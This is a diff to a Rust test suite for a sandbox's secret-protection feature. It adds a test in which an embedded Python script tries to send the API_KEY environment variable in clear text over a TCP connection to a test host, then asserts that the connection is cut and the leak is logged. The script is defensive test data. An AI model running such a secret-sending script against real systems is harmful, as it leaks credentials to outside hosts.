@@ -20,6 +20,11 @@ async fn engine_for(net: &TestNet) -> TestEngine {
     .await
 }
 
+/// Runs a Python script in the sandbox; returns its stdout (it must succeed).
+async fn py_out(client: &McpClient, id: &str, code: &str) -> String {
+    sh(client, id, &format!("python3 - <<'EOF'\n{code}\nEOF")).await
+}
+
 /// Sets a secret through the engine API (what `sandbox-mcp secrets set` does locally).
 async fn set_secret(engine: &TestEngine, name: &str, body: Value) -> reqwest::Response {
     engine
@@ -187,6 +192,29 @@ async fn a_bound_secret_reaches_its_host_and_never_the_sandbox() {
         plain["stdout"].as_str().unwrap().contains("https"),
         "{plain}"
     );
+    // In any other clear text, even after a harmless start (here the TCP echo): the connection
+    // is cut before the stand-in goes out, so it never comes back.
+    let echo = py_out(
+        &client,
+        &id,
+        r#"
+import os, socket
+s = socket.create_connection(("pypi.test", 7), timeout=5)
+s.sendall(b"hello")
+first = s.recv(5)
+s.sendall(b"then " + os.environ["API_KEY"].encode())
+try:
+    rest = s.recv(100)
+except OSError as e:
+    rest = b"reset"
+print(first.decode(), repr(rest))
+"#,
+    )
+    .await;
+    assert!(
+        echo.starts_with("hello ") && !echo.contains("sbxsecret_"),
+        "{echo}"
+    );
     // In a DNS name (a tunnel for it): refused, never forwarded.
     let dns = exec(
         &client,
@@ -239,6 +267,7 @@ async fn a_bound_secret_reaches_its_host_and_never_the_sandbox() {
     let text = log.to_string();
     assert!(text.contains("secret example applied (API_KEY)"), "{log:#}");
     assert!(text.contains("leak attempt"), "{log:#}");
+    assert!(text.contains("clear text; it was cut"), "{log:#}");
     assert!(!text.contains(VALUE));
 
     // Nothing in the sandbox holds the value: its writable files (the rest is the host's
